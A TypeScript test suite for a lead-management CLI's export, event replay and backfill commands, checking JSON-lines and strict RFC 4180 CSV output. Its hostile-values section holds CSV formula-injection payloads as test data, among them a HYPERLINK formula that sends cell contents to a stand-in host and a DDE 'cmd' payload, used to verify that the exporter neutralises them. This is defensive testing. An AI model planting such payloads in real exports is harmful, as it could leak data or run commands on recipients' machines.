import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BatchWriteCommand } from '@aws-sdk/lib-dynamodb';
import type { AdminService } from '../../admin/admin.service';
import type { Lead } from '../../lambdas/leads/lead';
import { leadItem } from '../../lambdas/leads/lead.item';
import { adminService } from '../../local/local-admin';
import { leadctl } from '../support/leadctl-runner';
import { createTestTable, type TestTable } from '../support/test-table';

/** A field as read, with whether it was enclosed in double quotes (an empty string is, a null is not). */
interface CsvCell {
  readonly text: string;
  readonly quoted: boolean;
}

/**
 * A strict RFC 4180 reader (CRLF records, quoted fields with doubled quotes, nothing after a
 * closing quote but a comma or CRLF), to check what the export wrote.
 */
function parseCsvCells(text: string): CsvCell[][] {
  const rows: CsvCell[][] = [];
  let row: CsvCell[] = [];
  let cell = '';
  let quoted = false;
  let index = 0;
  while (index < text.length) {
    if (text[index] === '"' && cell === '' && !quoted) {
      quoted = true;
      index += 1;
      for (;;) {
        if (index >= text.length) throw new Error('unterminated quoted field');
        if (text[index] === '"' && text[index + 1] === '"') {
          cell += '"';
          index += 2;
        } else if (text[index] === '"') {
          index += 1;
          break;
        } else {
          cell += text[index];
          index += 1;
        }
      }
      if (index < text.length && text[index] !== ',' && !text.startsWith('\r\n', index)) throw new Error(`text after a closing quote at ${index}`);
    }
    if (text.startsWith('\r\n', index)) {
      row.push({ text: cell, quoted });
      rows.push(row);
      row = [];
      cell = '';
      quoted = false;
      index += 2;
    } else if (text[index] === ',') {
      row.push({ text: cell, quoted });
      cell = '';
      quoted = false;
      index += 1;
    } else if (index < text.length) {
      if (text[index] === '"' || text[index] === '\r' || text[index] === '\n') throw new Error(`bare ${JSON.stringify(text[index])} at ${index}`);
      cell += text[index];
      index += 1;
    }
  }
  if (cell !== '' || quoted || row.length > 0) throw new Error('last record not ended with CRLF');
  return rows;
}

function parseCsv(text: string): string[][] {
  return parseCsvCells(text).map((row) => row.map((cell) => cell.text));
}

describe('leadctl leads export and events replay (local, a few thousand leads)', () => {
  let table: TestTable;
  let admin: AdminService;
  let dataDir: string;
  let env: Record<string, string>;
  let campaignId: string;
  const suppliers = ['sup_a', 'sup_b', 'sup_c'];
  const leads: Lead[] = [];
  const TOTAL = 3000;
  const START = Date.parse('2026-11-20T22:00:00.000Z');

  beforeAll(async () => {
    table = await createTestTable('leads-export');
    admin = adminService(table.db, table.tableName);
    dataDir = mkdtempSync(join(tmpdir(), 'leads-export-'));
    env = { DYNAMODB_PORT: new URL(table.endpoint).port, LOCAL_TABLE_NAME: table.tableName, LOCAL_DATA_DIR: dataDir };
    campaignId = (await admin.createCampaign('Export')).campaignId;
    const other = (await admin.createCampaign('Other')).campaignId;
    // Leads as ingest stores them (the same item builder), spread over three UTC days, written in
    // a shuffled order so the index, not the write order, must give creation order.
    for (let n = 0; n < TOTAL; n += 1) {
      leads.push({
        leadId: `lead_${String(n).padStart(6, '0')}x`,
        supplierId: suppliers[n % 3],
        campaignId: n % 50 === 49 ? other : campaignId,
        status: 'ACCEPTED',
        isTest: n % 10 === 7,
        // About 86 s apart: 3,000 leads cover three days and cross two midnights.
        createdAt: new Date(START + n * 86_123).toISOString(),
        fields: {
          first_name: n % 4 === 0 ? 'Ann, "the" first' : `Name ${n}`,
          ...(n % 5 === 0 ? { notes: 'line one\nline two\r\nline "three"' } : {}),
          ...(n % 7 === 0 ? { zip: 90210 + n, opted_in: n % 2 === 0, extra: null } : {}),
        },
      });
    }
    const shuffled = [...leads].sort((a, b) => (a.leadId.split('').reverse().join('') < b.leadId.split('').reverse().join('') ? -1 : 1));
    for (let start = 0; start < shuffled.length; start += 25) {
      await table.db.send(
        new BatchWriteCommand({ RequestItems: { [table.tableName]: shuffled.slice(start, start + 25).map((lead) => ({ PutRequest: { Item: leadItem(lead) } })) } }),
      );
    }
  }, 120_000);

  afterAll(async () => {
    await table.drop();
    rmSync(dataDir, { recursive: true, force: true });
  });

  const since = '2026-11-01';
  const ours = (filter: (lead: Lead) => boolean = () => true) => leads.filter((lead) => lead.campaignId === campaignId && filter(lead));
  const lines = (stdout: string) => stdout.split('\n').filter((line) => line !== '').map((line) => JSON.parse(line));

  it('streams the campaign\'s live leads as JSON lines, in creation order, across days and shards', async () => {
    const result = await leadctl(['leads', 'export', '--campaign', campaignId, '--since', since], env);

    expect(result.status).toBe(0);
    const exported = lines(result.stdout);
    const expected = ours((lead) => !lead.isTest);
    expect(exported.map((line) => line.lead_id)).toEqual(expected.map((lead) => lead.leadId));
    expect(exported[0]).toEqual({
      lead_id: expected[0].leadId,
      campaign_id: campaignId,
      supplier_id: expected[0].supplierId,
      created_at: expected[0].createdAt,
      is_test: false,
      fields: expected[0].fields,
    });
  });

  it('filters by supplier, includes test leads on request, and takes --since inclusive and --until exclusive', async () => {
    const from = leads[1000].createdAt;
    const to = leads[2000].createdAt;
    const result = await leadctl(
      ['leads', 'export', '--campaign', campaignId, '--since', from, '--until', to, '--supplier', 'sup_b', '--include-test'],
      env,
    );

    expect(result.status).toBe(0);
    const expected = ours((lead) => lead.supplierId === 'sup_b' && lead.createdAt >= from && lead.createdAt < to);
    expect(lines(result.stdout).map((line) => line.lead_id)).toEqual(expected.map((lead) => lead.leadId));
    expect(expected.some((lead) => lead.isTest)).toBe(true);
  });

  it('writes RFC 4180 CSV: a header with the union of field names, commas, quotes and newlines quoted', async () => {
    const result = await leadctl(['leads', 'export', '--campaign', campaignId, '--since', since, '--format', 'csv', '--include-test'], env);

    expect(result.status).toBe(0);
    const [header, ...rows] = parseCsv(result.stdout);
    expect(header).toEqual(['lead_id', 'campaign_id', 'supplier_id', 'created_at', 'is_test', 'extra', 'first_name', 'notes', 'opted_in', 'zip']);
    const expected = ours();
    expect(rows.length).toBe(expected.length);
    rows.forEach((row, index) => {
      const lead = expected[index];
      const cell = (name: string) => row[header.indexOf(name)];
      expect([cell('lead_id'), cell('supplier_id'), cell('created_at'), cell('is_test')]).toEqual([lead.leadId, lead.supplierId, lead.createdAt, String(lead.isTest)]);
      expect(cell('first_name')).toBe(lead.fields.first_name);
      expect(cell('notes')).toBe(lead.fields.notes ?? '');
      expect(cell('zip')).toBe(lead.fields.zip === undefined ? '' : String(lead.fields.zip));
      expect(cell('extra')).toBe('');
    });
    expect(result.stdout).toContain('"Ann, ""the"" first"');
  });

  it('refuses an unknown campaign, a bad format and a malformed date, exporting nothing', async () => {
    const unknown = await leadctl(['leads', 'export', '--campaign', 'cmp_nope', '--since', since], env);
    const format = await leadctl(['leads', 'export', '--campaign', campaignId, '--format', 'xml'], env);
    const date = await leadctl(['leads', 'export', '--campaign', campaignId, '--since', 'yesterday'], env);

    expect([unknown.status, format.status, date.status]).toEqual([1, 2, 2]);
    expect(unknown.stdout + format.stdout + date.stdout).toBe('');
    expect(date.stderr).toContain('--since must be an ISO 8601 date');
  });

  it('replays a range as Lead Accepted entries into events.jsonl, with the same mapping as the stream', async () => {
    const from = leads[100].createdAt;
    const to = leads[400].createdAt;
    const result = await leadctl(['events', 'replay', '--campaign', campaignId, '--since', from, '--until', to, '--json'], env);

    expect(result.status).toBe(0);
    const expected = ours((lead) => lead.createdAt >= from && lead.createdAt < to);
    expect(JSON.parse(result.stdout)).toMatchObject({ published: expected.length, failed: [] });
    const entries = lines(readFileSync(join(dataDir, 'events.jsonl'), 'utf8'));
    expect(entries.map((entry) => JSON.parse(entry.Detail).lead_id)).toEqual(expected.map((lead) => lead.leadId));
    expect(entries[0]).toMatchObject({ Source: 'lead-ingest', DetailType: 'Lead Accepted' });
    expect(JSON.parse(entries[0].Detail)).toEqual({
      lead_id: expected[0].leadId,
      campaign_id: campaignId,
      supplier_id: expected[0].supplierId,
      created_at: expected[0].createdAt,
      is_test: expected[0].isTest,
      fields: expected[0].fields,
    });
  });
});

describe('leadctl leads backfill-export', () => {
  let table: TestTable;
  let dataDir: string;
  let env: Record<string, string>;

  beforeAll(async () => {
    table = await createTestTable('leads-backfill');
    dataDir = mkdtempSync(join(tmpdir(), 'leads-backfill-'));
    env = { DYNAMODB_PORT: new URL(table.endpoint).port, LOCAL_TABLE_NAME: table.tableName, LOCAL_DATA_DIR: dataDir };
  });
  afterAll(async () => {
    await table.drop();
    rmSync(dataDir, { recursive: true, force: true });
  });

  it('gives leads stored before the export index its keys, so the export finds them, and does nothing the second time', async () => {
    const campaignId = (await adminService(table.db, table.tableName).createCampaign('Old leads')).campaignId;
    const old: Lead[] = Array.from({ length: 30 }, (_, n) => ({
      leadId: `lead_old${String(n).padStart(3, '0')}`,
      supplierId: 'sup_a',
      campaignId,
      status: 'ACCEPTED',
      isTest: false,
      createdAt: new Date(Date.parse('2026-10-01T12:00:00Z') + n * 3_600_000).toISOString(),
      fields: { n },
    }));
    for (const lead of old) {
      // As an older version stored them: without the export index keys.
      const { GSI4PK, GSI4SK, ...item } = leadItem(lead);
      expect([GSI4PK, GSI4SK].every(Boolean)).toBe(true);
      await table.db.send(new BatchWriteCommand({ RequestItems: { [table.tableName]: [{ PutRequest: { Item: item } }] } }));
    }
    const exportAll = () => leadctl(['leads', 'export', '--campaign', campaignId, '--since', '2026-09-01'], env);

    const before = await exportAll();
    const backfilled = await leadctl(['leads', 'backfill-export', '--json'], env);
    const after = await exportAll();
    const again = await leadctl(['leads', 'backfill-export', '--json'], env);

    expect(before.stdout).toBe('');
    expect(JSON.parse(backfilled.stdout)).toMatchObject({ updated: 30 });
    expect(after.stdout.split('\n').filter(Boolean).map((line) => JSON.parse(line).lead_id)).toEqual(old.map((lead) => lead.leadId));
    expect(JSON.parse(again.stdout)).toMatchObject({ updated: 0 });
  });
});

describe('leadctl leads export --format csv with hostile values', () => {
  let table: TestTable;
  let dataDir: string;
  let env: Record<string, string>;
  let campaignId: string;
  const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
  const HOSTILE = ['a "quoted", comma', 'line one\r\nline two\nline three\rend', 'nul\u0000inside', 'bell\u0007 and escape\u001b[31m and del\u007f and c1\u0085', 'ünïcødé ✓ 💥 \u2028 قيمة', "'already quoted", ' =spaced'];
  const lead: Lead = {
    leadId: 'lead_hostile01',
    supplierId: 'sup_a',
    campaignId: 'placeholder',
    status: 'ACCEPTED',
    isTest: false,
    createdAt: '2026-11-25T10:00:00.000Z',
    fields: {},
  };

  beforeAll(async () => {
    table = await createTestTable('leads-csv');
    dataDir = mkdtempSync(join(tmpdir(), 'leads-csv-'));
    env = { DYNAMODB_PORT: new URL(table.endpoint).port, LOCAL_TABLE_NAME: table.tableName, LOCAL_DATA_DIR: dataDir };
    campaignId = (await adminService(table.db, table.tableName).createCampaign('Hostile')).campaignId;
    const fields: Record<string, string | number | boolean | null> = { empty: '', nothing: null, negative: -5, flag: true };
    FORMULAS.forEach((value, index) => (fields[`formula${index}`] = value));
    HOSTILE.forEach((value, index) => (fields[`hostile${index}`] = value));
    // A field stored before ingest reserved the export's column names.
    fields.lead_id = 'spoofed';
    const other: Lead = { ...lead, leadId: 'lead_hostile02', createdAt: '2026-11-25T11:00:00.000Z', fields: { absent_elsewhere: 'x' } };
    const items = [{ ...lead, campaignId, fields }, { ...other, campaignId }].map((item) => ({ PutRequest: { Item: leadItem(item) } }));
    await table.db.send(new BatchWriteCommand({ RequestItems: { [table.tableName]: items } }));
  });
  afterAll(async () => {
    await table.drop();
    rmSync(dataDir, { recursive: true, force: true });
  });

  async function exportCsv(...extra: string[]): Promise<{ header: string[]; rows: Map<string, CsvCell>[]; stdout: string }> {
    const result = await leadctl(['leads', 'export', '--campaign', campaignId, '--since', '2026-11-20', '--format', 'csv', ...extra], env);
    expect(result.status).toBe(0);
    const [header, ...rows] = parseCsvCells(result.stdout);
    const names = header.map((cell) => cell.text);
    return { header: names, rows: rows.map((row) => new Map(row.map((cell, index) => [names[index], cell]))), stdout: result.stdout };
  }

  it('puts a \' before every formula-like start by default, and writes the text as stored with --raw', async () => {
    const safe = await exportCsv();
    const raw = await exportCsv('--raw');

    FORMULAS.forEach((value, index) => {
      expect(safe.rows[0].get(`formula${index}`)?.text).toBe(`'${value}`);
      expect(raw.rows[0].get(`formula${index}`)?.text).toBe(value);
    });
    // A number is never a formula; text that merely contains = or starts with ' is left alone.
    expect([safe.rows[0].get('negative')?.text, safe.rows[0].get('flag')?.text]).toEqual(['-5', 'true']);
    expect(safe.rows[0].get('hostile5')?.text).toBe("'already quoted");
    expect(safe.rows[0].get('hostile6')?.text).toBe(' =spaced');
  });

  it('parses under a strict RFC 4180 reader: quotes, commas, CR/LF and unicode come back as stored, control characters as \\uXXXX text', async () => {
    const { rows, stdout } = await exportCsv('--raw');

    expect(stdout).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
    const cell = (name: string) => rows[0].get(name)?.text;
    expect(cell('hostile0')).toBe(HOSTILE[0]);
    expect(cell('hostile1')).toBe(HOSTILE[1]);
    expect(cell('hostile2')).toBe('nul\\u0000inside');
    expect(cell('hostile3')).toBe('bell\\u0007 and escape\\u001b[31m and del\\u007f and c1\\u0085');
    expect(cell('hostile4')).toBe(HOSTILE[4]);
  });

  it('writes null and absent as an empty field and an empty string as "", and never names a column twice', async () => {
    const { header, rows } = await exportCsv();

    expect(rows[0].get('nothing')).toEqual({ text: '', quoted: false });
    expect(rows[1].get('nothing')).toEqual({ text: '', quoted: false });
    expect(rows[0].get('empty')).toEqual({ text: '', quoted: true });
    expect(new Set(header.map((name) => name.toLowerCase())).size).toBe(header.length);
    expect(header.slice(0, 5)).toEqual(['lead_id', 'campaign_id', 'supplier_id', 'created_at', 'is_test']);
    expect(rows[0].get('lead_id')?.text).toBe('lead_hostile01');
    expect(rows[0].get('lead_id (field)')?.text).toBe('spoofed');
  });

  it('refuses --raw without --format csv', async () => {
    const result = await leadctl(['leads', 'export', '--campaign', campaignId, '--since', '2026-11-20', '--raw'], env);

    expect(result.status).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain('--raw applies to --format csv only');
  });
});
